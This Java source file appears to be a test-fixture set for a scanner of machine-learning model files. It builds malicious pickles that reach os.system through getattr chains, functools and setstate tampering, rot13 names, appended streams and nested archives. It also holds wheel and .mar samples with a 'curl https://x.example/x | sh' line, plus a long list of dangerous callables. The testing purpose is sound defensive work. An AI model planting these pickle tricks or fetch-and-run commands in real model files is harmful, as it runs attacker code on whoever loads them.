package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.joined;
import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;
import static dev.bartizan.artifacts.PickleParts.appended;
import static dev.bartizan.artifacts.PickleParts.built;
import static dev.bartizan.artifacts.PickleParts.bytes;
import static dev.bartizan.artifacts.PickleParts.call;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.list;
import static dev.bartizan.artifacts.PickleParts.made;
import static dev.bartizan.artifacts.PickleParts.name;
import static dev.bartizan.artifacts.PickleParts.none;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.pickle;
import static dev.bartizan.artifacts.PickleParts.text;
import static dev.bartizan.artifacts.PickleParts.tuple;

import dev.bartizan.artifacts.PickleParts.Part;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/// Tricks of pickles, and honest pickles that look like them.
final class PickleTrials {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        PickleTrials trials = new PickleTrials();
        trials.calls();
        trials.chains();
        trials.streams();
        trials.containers();
        trials.promises();
        trials.honest();
        trials.honestModels();
        return trials.all;
    }

    private void bad(String name, Part part) {
        all.add(Trial.bad("pickle/" + name, "m.pkl", pickle(part)));
    }

    private void benign(String name, Part part) {
        all.add(Trial.benign("pickle/" + name, "m.pkl", pickle(part)));
    }

    /// Callables that lists of forbidden names have missed.
    private void calls() {
        for (String callable :
                List.of(
                        "test.support.script_helper:run_python_until_end",
                        "distutils.file_util:write_file",
                        "distutils.spawn:spawn",
                        "setuptools._distutils.spawn:spawn",
                        "numpy.distutils.exec_command:exec_command",
                        "numpy.f2py.crackfortran:getlincoef",
                        "numpy.testing._private.utils:runstring",
                        "torch.utils._config_module:ConfigModule.load_config",
                        "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
                        "torch.jit.unsupported_tensor_ops:execWrapper",
                        "torch.hub:load",
                        "torch.utils.cpp_extension:load",
                        "torch.distributed.rpc.internal:_run_function",
                        "torch.ops:load_library",
                        "pandas.core.computation.eval:eval",
                        "pandas:read_pickle",
                        "pandas.io.pickle:read_pickle",
                        "joblib:load",
                        "sklearn.datasets:fetch_openml",
                        "transformers.utils.hub:cached_file",
                        "IPython.utils.process:system",
                        "IPython:get_ipython",
                        "doctest:debug_script",
                        "bdb:Bdb.run",
                        "pdb:run",
                        "zipimport:zipimporter",
                        "zipfile:ZipFile",
                        "ensurepip:bootstrap",
                        "venv:create",
                        "antigravity:geohash",
                        "asyncio:create_subprocess_shell",
                        "multiprocessing.util:spawnv_passfds",
                        "concurrent.futures.process:_process_worker",
                        "xmlrpc.client:ServerProxy",
                        "telnetlib:Telnet",
                        "smtplib:SMTP",
                        "ftplib:FTP",
                        "nntplib:NNTP",
                        "http.server:test",
                        "wsgiref.simple_server:make_server",
                        "sqlite3:connect",
                        "dbm:open",
                        "shelve:open",
                        "tempfile:mktemp",
                        "linecache:getline",
                        "fileinput:input",
                        "codecs:open",
                        "io:open",
                        "gzip:open",
                        "tarfile:open",
                        "urllib.request:urlretrieve",
                        "webbrowser:open",
                        "os:putenv",
                        "sys:settrace",
                        "signal:signal",
                        "atexit:register",
                        "gc:get_objects",
                        "inspect:getattr_static",
                        "types:FunctionType",
                        "types:CodeType",
                        "marshal:loads",
                        "dill:loads",
                        "dill._dill:_create_code",
                        "cloudpickle.cloudpickle:_make_function",
                        "cloudpickle.cloudpickle:_builtin_type",
                        "pickle:loads",
                        "_pickle:Unpickler",
                        "yaml:unsafe_load",
                        "jsonpickle:decode",
                        "cffi:FFI",
                        "ctypes.util:find_library",
                        "logging.config:listen",
                        "logging.config:dictConfig",
                        "unittest.mock:patch",
                        "unittest.mock:_importer",
                        "tkinter:Tcl",
                        "turtle:mainloop",
                        "nturl2path:url2pathname",
                        "posixpath:expanduser",
                        "site:addsitedir",
                        "site:execsitecustomize",
                        "sysconfig:_main",
                        "platform:popen",
                        "getpass:unix_getpass",
                        "pyclbr:readmodule",
                        "modulefinder:ModuleFinder.run_script",
                        "py_compile:compile",
                        "compileall:compile_file",
                        "code:interact",
                        "rlcompleter:Completer",
                        "tokenize:open",
                        "symtable:symtable",
                        "lib2to3.refactor:get_fixers_from_package")) {
            bad("call-" + callable, call(callable, text("echo marker")));
        }
    }

    private void chains() {
        Part system =
                call(
                        "builtins:getattr",
                        call("importlib:import_module", text("os")),
                        text("system"));
        bad("chain-getattr", call(system, text("id")));
        bad(
                "chain-operator-attrgetter",
                call(call("operator:attrgetter", text("system")), name("os:path")));
        bad(
                "chain-methodcaller",
                call(
                        call("operator:methodcaller", text("system"), text("id")),
                        call("importlib:import_module", text("os"))));
        bad("chain-partial", call(call("functools:partial", name("os:system"), text("id"))));
        bad(
                "chain-map",
                call("builtins:list", call("builtins:map", name("os:system"), list(text("id")))));
        bad(
                "chain-filter-next",
                call(
                        "builtins:next",
                        call("builtins:filter", name("os:system"), list(text("id")))));
        bad(
                "chain-reduce",
                call("functools:reduce", name("os:system"), list(text("id"), text("b"))));
        bad(
                "chain-starmap",
                call(
                        "builtins:list",
                        call("itertools:starmap", name("os:system"), list(tuple(text("id"))))));
        bad("chain-defaultdict", call("collections:defaultdict", name("os:getcwd")));
        bad(
                "chain-weakref",
                call(
                        "weakref:finalize",
                        name("collections:OrderedDict"),
                        name("os:system"),
                        text("id")));
        bad(
                "chain-exitstack",
                call(
                        "contextlib:ExitStack.callback",
                        call("contextlib:ExitStack"),
                        name("os:system"),
                        text("id")));
        bad("chain-dotted", call("posixpath:os.system", text("id")));
        bad("chain-dotted-deep", call("collections:abc.sys.modules.get", text("os")));
        bad("chain-numpy-dotted", call("numpy.core.multiarray:os.system", text("id")));
        bad(
                "chain-codecs-name",
                call(
                        call(
                                "builtins:getattr",
                                name("posix:environ"),
                                call("codecs:decode", text("flfgrz"), text("rot13"))),
                        text("id")));
        bad(
                "build-tamper",
                built(name("builtins:print"), dict(text("__call__"), name("os:system"))));
        bad(
                "build-setstate",
                built(
                        built(
                                made("collections:OrderedDict"),
                                dict(text("__setstate__"), name("os:system"))),
                        text("id")));
        bad(
                "append-tamper",
                appended(
                        built(made("collections:deque"), dict(text("append"), name("os:system"))),
                        text("id")));
        bad("nested-bytes", dict(text("weights"), bytes(PAYLOAD)));
        bad(
                "nested-base64",
                dict(text("weights"), text(java.util.Base64.getEncoder().encodeToString(PAYLOAD))));
        bad("nested-hex", dict(text("weights"), text(java.util.HexFormat.of().formatHex(PAYLOAD))));
        bad("exec-of-source", call("builtins:exec", text("import os")));
        bad(
                "type-made",
                call(
                        "builtins:type",
                        text("X"),
                        tuple(),
                        dict(text("__reduce__"), name("os:system"))));
        bad("extension-code", pickle -> pickle.op(0x82).op(1).op(')').op('R'));
        bad("persistent-call", pickle -> pickle.text("x").op('Q').text("id").op(0x85).op('R'));
    }

    private void streams() {
        byte[] plain = pickle(dict(text("a"), number(1)));
        all.add(Trial.bad("stream/second", "m.pkl", joined(plain, PAYLOAD)));
        all.add(
                Trial.bad(
                        "stream/third-old",
                        "m.pkl",
                        joined(plain, plain, utf8("cos\nsystem\n(S'id'\ntR."))));
        all.add(Trial.bad("stream/after-zeros", "m.pkl", joined(plain, new byte[64], PAYLOAD)));
        all.add(
                Trial.bad(
                        "stream/before-broken",
                        "m.pkl",
                        joined(
                                java.util.Arrays.copyOf(PAYLOAD, PAYLOAD.length - 1),
                                new byte[] {(byte) 0xff})));
        all.add(Trial.bad("stream/inst", "m.pkl", utf8("(S'id'\nios\nsystem\n.")));
        all.add(Trial.bad("stream/obj", "m.pkl", utf8("(cos\nsystem\nS'id'\no.")));
        all.add(Trial.bad("stream/obj-pop", "m.pkl", utf8("(cos\nsystem\nS'id'\no0N.")));
        all.add(Trial.bad("stream/wrong-extension", "weights.dat", PAYLOAD));
        all.add(Trial.bad("stream/in-text-file", "notes.txt", utf8("cos\nsystem\n(S'id'\ntR.")));
        all.add(
                Trial.notClean(
                        "stream/no-stop",
                        "m.pkl",
                        java.util.Arrays.copyOf(plain, plain.length - 1)));
        all.add(Trial.notClean("stream/legacy-cut", "m.pt", java.util.Arrays.copyOf(legacy(), 16)));
        for (int cut = 20; cut < legacy().length; cut += 9) {
            all.add(
                    Trial.notClean(
                            "stream/legacy-cut-" + cut,
                            "m.pt",
                            java.util.Arrays.copyOf(legacy(), cut)));
        }
        all.add(Trial.benign("stream/legacy", "m.pt", legacy()));
    }

    /// PyTorch before 1.6: a magic number, a protocol, the system, an object, the storages' keys.
    static byte[] legacy() {
        byte[] magic =
                Pickles.protocol(2)
                        .op(0x8a)
                        .op(10)
                        .raw(
                                new byte[] {
                                    0x6c,
                                    (byte) 0xfc,
                                    (byte) 0x9c,
                                    0x46,
                                    (byte) 0xf9,
                                    0x20,
                                    0x6a,
                                    (byte) 0xa8,
                                    0x50,
                                    0x19
                                })
                        .stop();
        byte[] protocol = Pickles.protocol(2).op('M').op(0xe9).op(3).stop();
        byte[] system =
                Pickles.protocol(2)
                        .ops("}(")
                        .text("little_endian")
                        .op(0x88)
                        .text("protocol_version")
                        .op('M')
                        .op(0xe9)
                        .op(3)
                        .op('u')
                        .stop();
        byte[] object = Pickles.protocol(2).ops("}.").bytes();
        byte[] keys = Pickles.protocol(2).ops("].").bytes();
        return joined(magic, protocol, system, object, keys);
    }

    private void containers() {
        all.add(
                Trial.bad(
                        "container/torch-odd-name",
                        "m.pt",
                        Scans.zip(Map.of("m/data.pkl", pickle(dict()), "m/config.p", PAYLOAD))));
        all.add(
                Trial.bad(
                        "container/torch-storage",
                        "m.pt",
                        Scans.zip(Map.of("m/data.pkl", pickle(dict()), "m/data/0", PAYLOAD))));
        all.add(
                Trial.bad(
                        "container/torch-package",
                        "m.pt",
                        Scans.zip(
                                Map.of(
                                        "p/.data/version",
                                        utf8("6\n"),
                                        "p/.data/extern_modules",
                                        utf8("os\nsubprocess\n"),
                                        "p/mod.py",
                                        utf8("import os\nos.system('id')\n"),
                                        "p/model/model.pkl",
                                        pickle(dict())))));
        all.add(
                Trial.bad(
                        "container/npz-object",
                        "m.npz",
                        Scans.zip(Map.of("a.npy", FormatScanTest.npy("'|O'", "(1,)", PAYLOAD)))));
        all.add(
                Trial.bad(
                        "container/zip-in-tar",
                        "m.nemo",
                        FormatScanTest.tar("a.zip", '0', "", Scans.zip(Map.of("x.pkl", PAYLOAD)))));
        all.add(
                Trial.bad(
                        "container/pth-in-wheel",
                        "m.whl",
                        Scans.zip(
                                Map.of(
                                        "a.pth",
                                        utf8(
                                                "import os; os.system('curl -s https://x.example/x | sh')\n"),
                                        "a-1.dist-info/METADATA",
                                        utf8("Name: a\n")))));
        all.add(
                Trial.bad(
                        "container/jar-in-model",
                        "m.mar",
                        Scans.zip(
                                Map.of(
                                        "MAR-INF/MANIFEST.json",
                                        utf8(
                                                "{\"model\":{\"modelName\":\"x\",\"handler\":\"h.py\"}}"),
                                        "h.py",
                                        utf8(
                                                "import os\nos.system('curl https://x.example/x | sh')\n")))));
    }

    /// Archives that lack what their framework reads first, and texts that ask to be rebuilt.
    private void promises() {
        byte[] handler = utf8("x = 1\n");
        byte[] manifest = utf8("{\"model\":{\"modelName\":\"m\",\"handler\":\"missing.py\"}}");
        all.add(
                Trial.notClean(
                        "promise/mar-without-handler",
                        "m.mar",
                        Scans.zip(Map.of("MAR-INF/MANIFEST.json", manifest, "h.py", handler))));
        all.add(
                Trial.notClean(
                        "promise/mar-without-manifest",
                        "m.mar",
                        Scans.zip(Map.of("h.py", handler))));
        all.add(
                Trial.notClean(
                        "promise/keras-without-configuration",
                        "m.keras",
                        Scans.zip(Map.of("metadata.json", utf8("{}")))));
        all.add(
                Trial.bad(
                        "promise/msgpack-class",
                        "m.msgpack",
                        joined(
                                new byte[] {(byte) 0x81, (byte) 0xa9},
                                utf8("__class__"),
                                new byte[] {(byte) 0xa9},
                                utf8("os.system"))));
        all.add(
                Trial.bad(
                        "promise/skops-card",
                        "m.skops",
                        Scans.zip(
                                Map.of(
                                        "schema.json", utf8("{\"version\":\"1.0\"}"),
                                        "README.md", utf8("Use joblib.load() when that fails.")))));
        benign("signal-number", call("signal:Signals", number(15)));
        benign("socket-family", call("socket:AddressFamily", number(2)));
        benign(
                "out-of-band",
                call(
                        "numpy._core.numeric:_frombuffer",
                        pickle -> pickle.op(0x97),
                        text("f4"),
                        tuple(number(1)),
                        text("C")));
    }

    private void honest() {
        benign("uuid", made("uuid:UUID"));
        benign("datetime", call("datetime:datetime", bytes(new byte[10])));
        benign("timedelta", call("datetime:timedelta", number(1), number(2), number(3)));
        benign("timezone", call("datetime:timezone", call("datetime:timedelta", number(0))));
        benign("decimal", call("decimal:Decimal", text("1.5")));
        benign("fraction", call("fractions:Fraction", text("1/3")));
        benign("path", call("pathlib:PosixPath", text("/"), text("data"), text("x")));
        benign("pure-path", call("pathlib:PurePosixPath", text("a")));
        benign("ordered", call("collections:OrderedDict", list(list(text("a"), number(1)))));
        benign("counter", call("collections:Counter", dict(text("a"), number(1))));
        benign("deque", call("collections:deque", list(), number(3)));
        benign("defaultdict", call("collections:defaultdict", name("builtins:list")));
        benign("defaultdict-of-float", call("collections:defaultdict", name("builtins:float")));
        benign("itemgetter", call("operator:itemgetter", number(1)));
        benign(
                "partial-sum",
                built(
                        call("functools:partial", name("builtins:sum")),
                        tuple(name("builtins:sum"), tuple(), dict(), none())));
        benign("set", call("builtins:set", list(number(1))));
        benign("frozenset", call("builtins:frozenset", list(number(1))));
        benign("complex", call("builtins:complex", number(1), number(2)));
        benign("slice", call("builtins:slice", none(), number(1), none()));
        benign("range", call("builtins:range", number(0), number(9), number(1)));
        benign("bytearray", call("builtins:bytearray", bytes(new byte[3])));
        benign("bound-append", call("builtins:getattr", name("builtins:list"), text("append")));
        benign("namespace", built(made("argparse:Namespace"), dict(text("lr"), number(1))));
        benign(
                "simple-namespace",
                built(made("types:SimpleNamespace"), dict(text("lr"), number(1))));
        benign("enum-http", call("http:HTTPStatus", number(200)));
        benign("ipaddress", call("ipaddress:IPv4Address", number(1)));
        benign("zoneinfo", call("zoneinfo:ZoneInfo._unpickle", text("Europe/Berlin"), number(1)));
        benign("regex", call("re:_compile", text("a+"), number(32)));
        benign(
                "strings-about-code",
                list(
                        text("eval(x)"),
                        text("os.system is dangerous"),
                        text("import os; never do this"),
                        text("__import__")));
        benign(
                "random-state",
                built(made("random:Random"), tuple(number(3), tuple(number(1)), none())));
    }

    private void honestModels() {
        Part dtype =
                built(
                        call("numpy:dtype", text("f8"), number(0), number(1)),
                        tuple(
                                number(3),
                                text("<"),
                                none(),
                                none(),
                                none(),
                                number(-1),
                                number(-1),
                                number(0)));
        Part empty =
                call(
                        "numpy.core.multiarray:_reconstruct",
                        name("numpy:ndarray"),
                        tuple(number(0)),
                        bytes(utf8("b")));
        Part array =
                built(empty, tuple(number(1), tuple(number(1)), dtype, none(), bytes(new byte[8])));
        benign("numpy-array", array);
        benign(
                "numpy-strings",
                built(
                        call(
                                "numpy._core.multiarray:_reconstruct",
                                name("numpy:ndarray"),
                                tuple(number(0)),
                                bytes(utf8("b"))),
                        tuple(
                                number(1),
                                tuple(number(2)),
                                call("numpy:dtype", text("O8"), number(0), number(1)),
                                none(),
                                list(text("a"), text("b")))));
        benign("numpy-scalar", call("numpy.core.multiarray:scalar", dtype, bytes(new byte[8])));
        benign("numpy-generator", call("numpy.random._pickle:__randomstate_ctor", text("MT19937")));
        benign(
                "sklearn-pipeline",
                built(
                        made("sklearn.pipeline:Pipeline"),
                        dict(
                                text("steps"),
                                list(
                                        tuple(
                                                text("s"),
                                                built(
                                                        made(
                                                                "sklearn.preprocessing._data:StandardScaler"),
                                                        dict(text("mean_"), array))),
                                        tuple(
                                                text("m"),
                                                built(
                                                        made(
                                                                "sklearn.linear_model._logistic:LogisticRegression"),
                                                        dict(
                                                                text("coef_"),
                                                                array,
                                                                text("_sklearn_version"),
                                                                text("1.5.0"))))))));
        benign(
                "sklearn-tree",
                built(
                        made("sklearn.tree._tree:Tree", number(2), array, number(1)),
                        dict(text("max_depth"), number(3), text("values"), array)));
        benign(
                "xgboost-wrapper",
                built(
                        made("xgboost.sklearn:XGBClassifier"),
                        dict(
                                text("n_estimators"),
                                number(10),
                                text("_Booster"),
                                built(
                                        made("xgboost.core:Booster"),
                                        dict(
                                                text("handle"),
                                                call(
                                                        "builtins:bytearray",
                                                        bytes(utf8("{L\0\0binf"))))))));
        benign(
                "lightgbm-wrapper",
                built(
                        made("lightgbm.sklearn:LGBMClassifier"),
                        dict(
                                text("_Booster"),
                                built(
                                        made("lightgbm.basic:Booster"),
                                        dict(text("handle"), text("tree\nversion=v4\n"))))));
        benign(
                "catboost-wrapper",
                built(made("catboost.core:CatBoostClassifier"), dict(text("_object"), none())));
        benign(
                "pandas-frame",
                built(
                        made("pandas.core.frame:DataFrame"),
                        dict(
                                text("_mgr"),
                                call(
                                        "pandas.core.internals.managers:BlockManager",
                                        tuple(
                                                call(
                                                        "pandas._libs.internals:_unpickle_block",
                                                        array,
                                                        call(
                                                                "builtins:slice",
                                                                number(0),
                                                                number(1),
                                                                number(1)),
                                                        number(2))),
                                        list(
                                                call(
                                                        "pandas.core.indexes.base:_new_Index",
                                                        name("pandas.core.indexes.base:Index"),
                                                        dict(
                                                                text("data"),
                                                                array,
                                                                text("name"),
                                                                none())))))));
        benign(
                "scipy-sparse",
                built(
                        made("scipy.sparse._csr:csr_matrix"),
                        dict(text("data"), array, text("_shape"), tuple(number(1), number(1)))));
        benign(
                "training-args",
                built(
                        made("transformers.training_args:TrainingArguments"),
                        dict(
                                text("output_dir"),
                                text("out"),
                                text("lr_scheduler_type"),
                                call("transformers.trainer_utils:SchedulerType", text("linear")),
                                text("device"),
                                call("torch:device", text("cpu")))));
        benign("torch-size", call("torch:Size", tuple(number(2), number(3))));
        benign(
                "lightning",
                dict(
                        text("epoch"),
                        number(3),
                        text("hyper_parameters"),
                        built(
                                call("pytorch_lightning.utilities.parsing:AttributeDict"),
                                dict(text("lr"), number(1))),
                        text("callbacks"),
                        dict()));
        benign(
                "optimizer",
                dict(
                        text("state"),
                        dict(),
                        text("param_groups"),
                        list(
                                dict(
                                        text("lr"),
                                        number(1),
                                        text("betas"),
                                        tuple(number(0), number(1)),
                                        text("foreach"),
                                        none()))));
        benign(
                "scheduler",
                dict(
                        text("_step_count"),
                        number(3),
                        text("base_lrs"),
                        list(number(1)),
                        text("lr_lambdas"),
                        list(none())));
        benign(
                "omegaconf",
                built(made("omegaconf.dictconfig:DictConfig"), dict(text("_content"), dict())));
        benign(
                "spacy-lookups",
                dict(
                        text("lookups"),
                        call("collections:OrderedDict"),
                        text("vocab"),
                        list(text("the"))));
        benign(
                "gensim",
                built(
                        made("gensim.models.keyedvectors:KeyedVectors"),
                        dict(text("vectors"), array)));
        benign(
                "nltk",
                built(
                        made("nltk.tokenize.punkt:PunktSentenceTokenizer"),
                        dict(text("_params"), none())));
        benign(
                "statsmodels",
                built(
                        made("statsmodels.regression.linear_model:OLSResults"),
                        dict(text("params"), array)));
        benign("networkx", built(made("networkx.classes.graph:Graph"), dict(text("_adj"), dict())));
    }
}
